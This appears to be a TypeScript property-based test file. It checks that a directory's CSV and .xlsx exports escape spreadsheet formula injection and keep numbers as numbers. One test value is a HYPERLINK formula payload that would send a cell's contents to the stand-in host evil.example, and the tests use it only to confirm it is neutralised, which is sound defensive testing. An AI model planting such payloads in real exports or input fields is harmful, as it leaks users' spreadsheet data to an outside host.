// Every export (the directory's CSV, the .xlsx workbooks of xlsx.ts) writes text no spreadsheet runs as a formula
// (OWASP "CSV Injection", domain spreadsheetCells), however the CSV line is split, and keeps numbers numbers.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { csvOf } from '../../people/directory';
import { xlsxOf, type XlsxColumn } from '../xlsx';

interface Row {
  name: string;
  note: string;
  rate: number | null;
  joined: string;
}

const COLUMNS: XlsxColumn<Row>[] = [
  { header: 'Name', width: 20, value: (r) => r.name },
  { header: 'Note', width: 20, value: (r) => r.note },
  { header: 'Rate', width: 10, value: (r) => r.rate },
  { header: 'Join date', width: 12, value: (r) => r.joined, date: true },
];

const HYPERLINK = 'x;=HYPERLINK("http://evil.example/?"&A1,"Click");y';
const FORMULA_START = /^[=+\-@\t\r]/;
const isNumber = (field: string) => field.trim() !== '' && Number.isFinite(Number(field));
const dropped = (field: string) => field.replace(/^[\p{Zs}"]*/u, '').normalize('NFKC');

const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '|', '"', ' ', '＝', '＠', 'x', 'é');
const text = fc
  .array(fc.oneof({ weight: 3, arbitrary: risky }, { weight: 1, arbitrary: fc.string({ maxLength: 3 }) }), {
    maxLength: 16,
  })
  .map((parts) => parts.join(''));
const row = fc.record({
  name: text,
  note: text,
  rate: fc.option(fc.double({ noNaN: true, noDefaultInfinity: true })),
  joined: fc.constant('2024-02-29'),
});

async function cellsOf(workbook: Buffer) {
  const read = new ExcelJS.Workbook();
  await read.xlsx.load(workbook as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  read.getWorksheet('Export')!.eachRow((r) => r.eachCell((cell) => void cells.push(cell)));
  return cells;
}

describe('CSV export (the directory)', () => {
  it('a Belgian or Dutch Excel, splitting on ;, finds no formula in x;=HYPERLINK(…);y', () => {
    const csv = csvOf(COLUMNS, [{ name: 'Ann', note: HYPERLINK, rate: -12.5, joined: '2024-02-29' }]);
    const line = csv.split('\r\n')[1];
    expect(
      line
        .split(';')
        .map(dropped)
        .filter((field) => FORMULA_START.test(field)),
    ).toEqual([]);
    expect(line).toEqual('Ann,"x;\'=HYPERLINK(""http://evil.example/?""&A1,""Click"");y",-12.5,2024-02-29');
  });

  it('no field starts a formula after splitting on , ; tab | or a line break, for any text', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 4 }), (rows) => {
        const csv = csvOf(COLUMNS, rows).replace(/^\uFEFF/, '');
        for (const separator of [',', ';', '\t', '|', '\r', '\n']) {
          // A number is no formula: the rate column writes -12.5 as the number it is.
          for (const field of csv.split(separator))
            if (!isNumber(field)) expect(dropped(field)).not.toMatch(FORMULA_START);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('.xlsx exports (xlsxOf: directory, contracts, licenses, review reports)', () => {
  it('writes x;=HYPERLINK(…);y and =1+1 as text that starts no formula, a number as a number', async () => {
    const cells = await cellsOf(
      await xlsxOf('Export', COLUMNS, [{ name: '=1+1', note: HYPERLINK, rate: -12.5, joined: '2024-02-29' }]),
    );
    expect(cells.slice(4).map((cell) => cell.value)).toEqual([
      "'=1+1",
      'x;\'=HYPERLINK("http://evil.example/?"&A1,"Click");y',
      -12.5,
      new Date('2024-02-29T00:00:00Z'),
    ]);
    expect(cells.map((cell) => cell.type)).not.toContain(ExcelJS.ValueType.Formula);
  });

  it('no cell is a formula cell or text that starts a formula, for any text; numbers stay numbers', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 4 }), async (rows) => {
        const cells = await cellsOf(await xlsxOf('Export', COLUMNS, rows));
        for (const cell of cells) {
          expect(cell.type).not.toEqual(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(dropped(cell.value)).not.toMatch(FORMULA_START);
        }
        const rates = cells.filter((cell) => Number(cell.col) === 3 && Number(cell.row) > 1).map((cell) => cell.value);
        expect(rates).toEqual(rows.filter((r) => r.rate !== null).map((r) => (Object.is(r.rate, -0) ? 0 : r.rate)));
      }),
      { numRuns: 40 },
    );
  });
});
